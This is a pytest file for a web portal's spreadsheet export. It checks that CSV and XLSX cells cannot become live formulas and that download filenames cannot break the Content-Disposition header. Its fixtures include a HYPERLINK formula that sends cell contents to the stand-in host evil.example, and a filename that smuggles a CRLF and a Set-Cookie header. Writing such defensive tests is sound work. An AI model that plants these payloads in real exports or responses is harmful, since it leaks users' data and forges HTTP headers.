"""Typed text never becomes a formula in an export (CSV / formula injection)."""

import io

from openpyxl import Workbook, load_workbook

from network_portal.ui.spreadsheets import (
    attachment_disposition,
    csv_safe,
    workbook_text_only,
    xlsx_response,
)

ATTACK = '=HYPERLINK("https://evil.example/?"&A1,"Отчёт")'


def test_csv_cells_that_excel_would_evaluate_get_an_apostrophe():
    row = [ATTACK, "+7 900", "-1", "@SUM(A1)", "\tx", "СОШ № 5", 12, None]
    assert csv_safe(row) == [
        "'" + ATTACK, "'+7 900", "'-1", "'@SUM(A1)", "'\tx", "СОШ № 5", 12, None,
    ]  # fmt: skip


def test_xlsx_keeps_typed_formulas_as_text():
    book = Workbook()
    book.active.append([ATTACK, "СОШ № 5", 3])
    assert book.active["A1"].data_type == "f"
    workbook_text_only(book)
    buffer = io.BytesIO()
    book.save(buffer)
    cell = load_workbook(io.BytesIO(buffer.getvalue())).active["A1"]
    assert cell.data_type == "s" and cell.value == ATTACK


def test_xlsx_response_saves_a_workbook_with_the_xlsx_type_and_an_attachment_name():
    book = Workbook()
    book.active.append(["СОШ № 5"])
    response = xlsx_response(book, "schools-2025.xlsx")
    assert response["Content-Type"] == (
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    assert response["Content-Disposition"] == 'attachment; filename="schools-2025.xlsx"'
    assert load_workbook(io.BytesIO(response.content)).active["A1"].value == "СОШ № 5"
    assert xlsx_response(response.content, "copy.xlsx").content == response.content


def test_a_cyrillic_name_is_sent_as_rfc_5987_with_an_ascii_fallback():
    response = xlsx_response(b"PK", "Тепловая карта «рисков».xlsx")
    assert response["Content-Disposition"] == (
        'attachment; filename="________ _____ ________.xlsx"; '
        "filename*=UTF-8''%D0%A2%D0%B5%D0%BF%D0%BB%D0%BE%D0%B2%D0%B0%D1%8F%20"
        "%D0%BA%D0%B0%D1%80%D1%82%D0%B0%20%C2%AB%D1%80%D0%B8%D1%81%D0%BA%D0%BE%D0%B2%C2%BB.xlsx"
    )


def test_a_name_cannot_break_the_header_or_its_quotes():
    header = attachment_disposition('a"b\\c\r\nSet-Cookie: x.xlsx')
    assert "\r" not in header and "\n" not in header
    fallback = header.split("; filename*=")[0]
    assert fallback == 'attachment; filename="a_b_c__Set-Cookie: x.xlsx"'
    assert header.endswith("a%22b%5Cc%0D%0ASet-Cookie%3A%20x.xlsx")
